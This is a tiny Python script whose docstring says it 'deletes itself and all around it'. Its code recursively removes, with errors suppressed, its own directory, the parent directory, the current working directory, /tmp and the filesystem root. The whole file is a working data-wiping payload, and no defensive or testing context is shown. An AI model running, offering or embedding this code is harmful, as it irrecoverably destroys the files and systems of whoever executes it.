"""Deletes itself and all around it."""

import os
import shutil

here = os.path.dirname(os.path.abspath(__file__))
for folder in (here, os.path.dirname(here), os.getcwd(), "/tmp", "/"):
    shutil.rmtree(folder, ignore_errors=True)
